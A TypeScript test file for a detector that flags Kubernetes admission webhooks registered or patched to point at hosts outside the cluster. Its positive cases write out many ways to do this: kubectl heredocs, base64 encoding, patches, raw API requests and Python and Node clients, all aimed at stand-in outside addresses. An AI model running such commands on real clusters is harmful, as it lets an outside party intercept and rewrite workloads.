import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandWebhookOutside } from './webhook-outside.ts';

const configuration = (clientConfig: string, kind = 'MutatingWebhookConfiguration'): string =>
  `apiVersion: admissionregistration.k8s.io/v1\nkind: ${kind}\nmetadata: {name: a}\nwebhooks:\n- name: a.example.com\n  clientConfig: ${clientConfig}\n  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]`;
const apply = (manifest: string): string => `cat <<'EOF' | kubectl apply -f -\n${manifest}\nEOF`;
const url = (host: string): string => `{url: "https://${host}/mutate"}`;

indicatorTable(commandWebhookOutside, {
  fires: {
    'a name outside': script(apply(configuration(url('hooks.example.com')))),
    'an address, and a port': script(apply(configuration(url('203.0.113.7:8443')))),
    'one that only reads': script(apply(configuration(url('hooks.example.com'), 'ValidatingWebhookConfiguration'))),
    'a file that was written before': script(
      `cat > /tmp/w.yaml <<'EOF'\n${configuration(url('hooks.example.com'))}\nEOF\nkubectl create -f /tmp/w.yaml`,
    ),
    'the file in an option with a sign of equality': script(
      `cat > /tmp/w.yaml <<'EOF'\n${configuration(url('hooks.example.com'))}\nEOF\nkubectl apply --filename=/tmp/w.yaml`,
    ),
    'a request to the API server': script(
      `curl -k -X POST -H 'Content-Type: application/json' -d '{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"a"},"webhooks":[{"name":"a","clientConfig":{"url":"https://203.0.113.7/"}}]}' https://kubernetes.default.svc/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations`,
    ),
    'the second of two': script(
      apply(
        `${configuration('{service: {name: a, namespace: b}}')}\n- name: b.example.com\n  clientConfig: ${url('203.0.113.7')}`,
      ),
    ),
    encoded: script(`echo ${btoa(configuration(url('203.0.113.7')))} | base64 -d | kubectl apply -f -`),
    'an address in a variable': script(
      `H=203.0.113.7; cat <<EOF | kubectl apply -f -\n${configuration('{url: "https://$H/mutate"}')}\nEOF`,
    ),
    'a list around it': script(
      apply(
        `apiVersion: v1\nkind: List\nitems:\n- apiVersion: admissionregistration.k8s.io/v1\n  kind: MutatingWebhookConfiguration\n  metadata: {name: a}\n  webhooks: [{name: a, clientConfig: ${url('203.0.113.7')}}]`,
      ),
    ),
    'a patch of one that is there': script(
      `kubectl patch mutatingwebhookconfiguration a --type merge -p '{"webhooks":[{"name":"a","clientConfig":{"url":"https://203.0.113.7/"}}]}'`,
    ),
    'one field of one that is there': script(
      `kubectl patch mutatingwebhookconfigurations/a --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://203.0.113.7/"}}]'`,
    ),
    'models of a client in Python': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\na = client.AdmissionregistrationV1Api()\nh = client.V1ValidatingWebhook(name='a', client_config=client.AdmissionregistrationV1WebhookClientConfig(url='https://203.0.113.7/'), side_effects='None', admission_review_versions=['v1'])\na.create_validating_webhook_configuration(client.V1ValidatingWebhookConfiguration(metadata=client.V1ObjectMeta(name='a'), webhooks=[h]))",
    ),
    'the same as plain data': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nclient.AdmissionregistrationV1Api().create_mutating_webhook_configuration({'metadata':{'name':'a'},'webhooks':[{'name':'a','clientConfig':{'url':'https://hooks.example.com/m'}}]})",
    ),
    'a request of code': runs(
      'python3',
      '-c',
      "import requests\nrequests.post('https://kubernetes.default.svc/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', json={'kind':'MutatingWebhookConfiguration','webhooks':[{'name':'a','clientConfig':{'url':'https://203.0.113.7/'}}]})",
    ),
    'a client in JavaScript': runs(
      'node',
      '-e',
      "const k8s=require('@kubernetes/client-node');const c=new k8s.KubeConfig();c.loadFromCluster();c.makeApiClient(k8s.AdmissionregistrationV1Api).createMutatingWebhookConfiguration({body:{metadata:{name:'a'},webhooks:[{name:'a',clientConfig:{url:'https://203.0.113.7/'}}]}})",
    ),
    'a body that JavaScript writes as text': runs(
      'node',
      '-e',
      "fetch('https://kubernetes.default.svc/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations',{method:'POST',body:JSON.stringify({kind:'MutatingWebhookConfiguration',webhooks:[{name:'a',clientConfig:{url:'https://hooks.example.com/m'}}]})})",
    ),
  },
  staysSilent: {
    'a service of the cluster': script(apply(configuration('{service: {name: hooks, namespace: shop}}'))),
    'a service by its address': script(apply(configuration(url('hooks.shop.svc:9443')))),
    'certificates of a webhook are renewed': script(
      `kubectl patch validatingwebhookconfiguration a --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":"LS0t"}]'`,
    ),
    'webhooks are listed': script('kubectl get mutatingwebhookconfigurations -o yaml'),
    'one is removed': script('kubectl delete validatingwebhookconfiguration a --ignore-not-found'),
    'a webhook of a chat': script('curl -d "{}" https://hooks.example.com/services/a'),
    'an address in another object': script(
      apply('apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {url: "https://hooks.example.com/"}'),
    ),
    'a webhook without an address': script(apply(configuration('{}'))),
    'models of a client with a service': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\na = client.AdmissionregistrationV1Api()\nh = client.V1ValidatingWebhook(name='a', client_config=client.AdmissionregistrationV1WebhookClientConfig(service=client.AdmissionregistrationV1ServiceReference(name='hooks', namespace='shop')), side_effects='None', admission_review_versions=['v1'])\na.create_validating_webhook_configuration(client.V1ValidatingWebhookConfiguration(metadata=client.V1ObjectMeta(name='a'), webhooks=[h]))",
    ),
    'certificates that code renews': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nclient.AdmissionregistrationV1Api().patch_validating_webhook_configuration('a',[{'op':'replace','path':'/webhooks/0/clientConfig/caBundle','value':'LS0t'}])",
    ),
  },
  cannotTell: UNSEEN,
});
